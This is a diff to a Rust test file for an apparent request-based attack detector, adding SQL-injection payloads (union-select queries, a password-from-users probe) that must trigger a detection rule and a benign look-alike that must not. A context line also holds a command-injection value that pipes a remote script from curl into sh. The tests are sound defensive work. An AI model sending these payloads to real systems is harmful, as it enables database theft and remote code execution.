@@ -788,7 +788,7 @@ fn command_injection_fires_on_a_piped_or_chained_id_command() {
 }
 
 #[test]
-fn classic_ssrf_and_command_payloads_still_fire_after_the_rules_were_narrowed() {
+fn classic_ssrf_command_and_sql_payloads_still_fire_after_the_rules_were_narrowed() {
     let query = |second: f64, ip: &str, query: &str| {
         let mut event = request(second, ip, "/api/fetch");
         event.url_query = Some(query.to_owned());
@@ -828,6 +828,20 @@ fn classic_ssrf_and_command_payloads_still_fire_after_the_rules_were_narrowed() 
             "host=x; curl http://203.0.113.9/x.sh | sh",
         ),
     ];
+    let sql = [
+        query(3.0, "203.0.113.141", "id=1%20union%20select%20null,null--"),
+        query(
+            3.1,
+            "203.0.113.142",
+            "q=x'%20UNION%20ALL%20SELECT%20version()--",
+        ),
+        query(3.2, "203.0.113.143", "id=-1+union/**/select+1,2,3"),
+        body(
+            3.3,
+            "203.0.113.144",
+            "name=a' union select password from users#",
+        ),
+    ];
     let ips: Vec<(String, &str)> = ssrf
         .iter()
         .map(|event| (event.source_ip.clone().unwrap(), "probe.ssrf"))
@@ -836,8 +850,12 @@ fn classic_ssrf_and_command_payloads_still_fire_after_the_rules_were_narrowed() 
                 .iter()
                 .map(|event| (event.source_ip.clone().unwrap(), "probe.command-injection")),
         )
+        .chain(
+            sql.iter()
+                .map(|event| (event.source_ip.clone().unwrap(), "probe.sql-injection")),
+        )
         .collect();
-    let findings = run(ssrf.into_iter().chain(command).collect());
+    let findings = run(ssrf.into_iter().chain(command).chain(sql).collect());
     for (ip, rule) in &ips {
         assert_fires(&findings, rule, ip);
     }
@@ -917,6 +935,7 @@ fn ordinary_queries_headers_and_bodies_stay_quiet() {
         r#"{"text":"cost is $5 (approx); I'm 100% sure"}"#,
         r#"{"columns":"name|id"}"#,
         r#"{"pipeline":"build | identify"}"#,
+        r#"{"text":"the EU union select committee met on Tuesday"}"#,
         "name=O%27Brien&plan=select+a+plan&redirect=%2Fhome",
     ];
     let headers = [
